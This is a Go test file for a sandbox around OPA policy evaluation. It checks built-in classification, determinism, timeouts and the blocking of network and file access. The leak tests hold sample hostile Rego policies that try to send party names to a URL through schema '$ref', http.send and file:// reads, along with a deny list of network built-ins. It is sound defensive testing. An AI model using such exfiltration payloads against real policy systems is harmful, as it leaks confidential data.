package policies

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/open-policy-agent/opa/v1/ast"
)

// TestEveryBuiltinClassified fails when OPA has a built-in that the sandbox
// neither allows nor denies (a new OPA version must not add one silently),
// when a name is in both lists, and when a list names a built-in OPA does
// not have.
func TestEveryBuiltinClassified(t *testing.T) {
	allowed := map[string]bool{}
	for _, n := range allowedBuiltins() {
		if allowed[n] {
			t.Errorf("%s is allowed twice", n)
		}
		allowed[n] = true
	}
	denied := deniedBuiltins()
	opa := map[string]bool{}
	for _, b := range ast.CapabilitiesForThisVersion().Builtins {
		opa[b.Name] = true
		_, d := denied[b.Name]
		switch {
		case allowed[b.Name] && d:
			t.Errorf("built-in %s is both allowed and denied", b.Name)
		case !allowed[b.Name] && !d:
			t.Errorf("OPA built-in %s is not classified: add it to allowedBuiltins or deniedBuiltins (policies/sandbox.go)", b.Name)
		}
	}
	for n := range allowed {
		if !opa[n] {
			t.Errorf("allowedBuiltins names %s, which OPA does not have", n)
		}
	}
	for n, why := range denied {
		if !opa[n] {
			t.Errorf("deniedBuiltins names %s, which OPA does not have", n)
		}
		if why == "" {
			t.Errorf("denied built-in %s has no reason", n)
		}
	}
}

// TestSandboxIsDeterministic: no allowed built-in is non-deterministic (the
// policy memo relies on it), none of the known ways out is allowed, and no
// host may be reached.
func TestSandboxIsDeterministic(t *testing.T) {
	caps := capabilities()
	if caps.AllowNet == nil || len(caps.AllowNet) != 0 {
		t.Errorf("allow_net %v, want empty (no host)", caps.AllowNet)
	}
	for _, b := range caps.Builtins {
		if b.Nondeterministic {
			t.Errorf("non-deterministic built-in %s is allowed", b.Name)
		}
	}
	have := map[string]bool{}
	for _, b := range caps.Builtins {
		have[b.Name] = true
	}
	for _, n := range []string{"http.send", "net.lookup_ip_addr", "opa.runtime", "time.now_ns", "rand.intn",
		"uuid.rfc4122", "json.match_schema", "json.verify_schema", "io.jwt.decode_verify", "net.cidr_expand"} {
		if have[n] {
			t.Errorf("%s is allowed", n)
		}
	}
	// The built-in bundle runs inside the sandbox.
	if _, err := Load(context.Background(), Options{}); err != nil {
		t.Fatal(err)
	}
}

// TestSandboxNoNetworkNoFiles: user policies cannot make screen fetch a URL
// or read a file, through any built-in or through a schema "$ref" (the
// exfiltration of issue 16: one GET per party with the name in the URL).
func TestSandboxNoNetworkNoFiles(t *testing.T) {
	var requests atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		requests.Add(1)
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"type": "string"}`)
	}))
	defer srv.Close()
	schemaFile := filepath.Join(t.TempDir(), "secret.json")
	if err := os.WriteFile(schemaFile, []byte(`{"type": "string"}`), 0o644); err != nil {
		t.Fatal(err)
	}
	fileURL := "file://" + filepath.ToSlash(schemaFile)

	head := `package screen.rules.leak

import data.screen.lib

# METADATA
# title: Leak
# description: tries to reach outside
# custom:
#   id: leak.x
#   severity: review
#   citation: none
`
	cases := map[string]string{
		"match_schema http": head + `warn contains lib.reason(rego.metadata.rule(), "fetched", []) if {
	some p in input.record.parties
	[ok, _] := json.match_schema(json.marshal(p.name), {"$ref": concat("", ["` + srv.URL + `/leak?name=", urlquery.encode(p.name)])})
	ok
}
`,
		"match_schema file": head + `warn contains lib.reason(rego.metadata.rule(), "read", []) if {
	[ok, _] := json.match_schema(json.marshal("x"), {"$ref": "` + fileURL + `"})
	ok
}
`,
		"verify_schema http": head + `warn contains lib.reason(rego.metadata.rule(), "fetched", []) if {
	[ok, _] := json.verify_schema({"$ref": "` + srv.URL + `/s.json"})
	ok
}
`,
		"verify_schema file": head + `warn contains lib.reason(rego.metadata.rule(), "read", []) if {
	[ok, _] := json.verify_schema({"$ref": "` + fileURL + `"})
	ok
}
`,
		"http.send": head + `warn contains lib.reason(rego.metadata.rule(), "fetched", []) if {
	http.send({"method": "GET", "url": "` + srv.URL + `"}).status_code == 200
}
`,
		"opa.runtime": head + `warn contains lib.reason(rego.metadata.rule(), opa.runtime().env.HOME, []) if true
`,
		"annotation schema http": `# METADATA
# schemas:
#   - input: {"$ref": "` + srv.URL + `/input.json"}
package screen.rules.leak

x if input.record.id == "1"
`,
		"annotation schema file": `# METADATA
# schemas:
#   - input: {"$ref": "` + fileURL + `"}
package screen.rules.leak

x if input.record.id == "1"
`,
	}
	ctx := context.Background()
	rec := map[string]any{"record": map[string]any{"id": "1", "parties": []any{map[string]any{"role": "buyer", "name": "Secret Buyer Ltd"}}}}
	for name, src := range cases {
		t.Run(name, func(t *testing.T) {
			requests.Store(0)
			dir := writePolicy(t, "leak.rego", src)
			p, err := Load(ctx, Options{Dirs: []string{dir}})
			if err == nil {
				rs, _ := p.EvaluateAll(ctx, mustInput(t, rec))
				for _, r := range rs {
					if r.Rule == "leak.x" {
						t.Errorf("the policy reached outside: %+v", r)
					}
				}
				if name != "annotation schema http" && name != "annotation schema file" {
					t.Errorf("policy loaded")
				}
			}
			// The Rego test runner runs in the same sandbox.
			test := strings.Replace(src, "package screen.rules.leak", "package screen.rules.leak_test", 1)
			_, _ = RunTests(ctx, Options{Dirs: []string{writePolicy(t, "leak_test.rego", test)}})
			if n := requests.Load(); n > 0 {
				t.Errorf("%d HTTP requests reached the server", n)
			}
		})
	}
}

// TestPolicyTimeout: an expensive user policy ends in an *EvalError that
// names the budget, instead of hanging; the default budget is
// DefaultTimeout.
func TestPolicyTimeout(t *testing.T) {
	head := `package screen.rules.slow

import data.screen.lib

# METADATA
# title: Slow
# description: loops for a long time
# custom:
#   id: slow.x
#   severity: review
#   citation: none
`
	cases := map[string]string{
		// numbers.range builds a billion numbers before the loop starts.
		"huge range": head + `warn contains lib.reason(rego.metadata.rule(), "never", []) if {
	some x in numbers.range(1, 1000000000)
	x < 0
}
`,
		// Ten billion iterations of plain evaluation.
		"nested loops": head + `warn contains lib.reason(rego.metadata.rule(), "never", []) if {
	some a in numbers.range(1, 100000)
	some b in numbers.range(1, 100000)
	a * b < 0
}
`,
	}
	ctx := context.Background()
	for name, src := range cases {
		t.Run(name, func(t *testing.T) {
			p, err := Load(ctx, Options{Dirs: []string{writePolicy(t, "slow.rego", src)}, Timeout: 200 * time.Millisecond})
			if err != nil {
				t.Fatal(err)
			}
			start := time.Now()
			_, err = p.EvaluateAll(ctx, mustInput(t, map[string]any{"record": map[string]any{}}))
			took := time.Since(start)
			var ee *EvalError
			if !errors.As(err, &ee) {
				t.Fatalf("want *EvalError, got %v", err)
			}
			if !strings.Contains(err.Error(), "--policy-timeout") || !strings.Contains(err.Error(), "200ms") {
				t.Errorf("error does not name the budget: %v", err)
			}
			if took > 10*time.Second {
				t.Errorf("evaluation took %s with a budget of 200ms", took)
			}
		})
	}

	for _, tc := range []struct {
		opt  time.Duration
		want time.Duration
	}{{0, DefaultTimeout}, {-1, 0}, {time.Second, time.Second}} {
		o := Options{Timeout: tc.opt}
		if got := o.budget(); got != tc.want {
			t.Errorf("Timeout %v: budget %v, want %v", tc.opt, got, tc.want)
		}
	}

	// A cancelled run is reported as such, not as the budget.
	p, err := Load(ctx, Options{Dirs: []string{writePolicy(t, "slow.rego", cases["nested loops"])}})
	if err != nil {
		t.Fatal(err)
	}
	cctx, cancel := context.WithTimeout(ctx, 100*time.Millisecond)
	defer cancel()
	if _, err := p.EvaluateAll(cctx, mustInput(t, map[string]any{})); err == nil || strings.Contains(err.Error(), "--policy-timeout") {
		t.Errorf("cancelled evaluation: %v", err)
	}
}
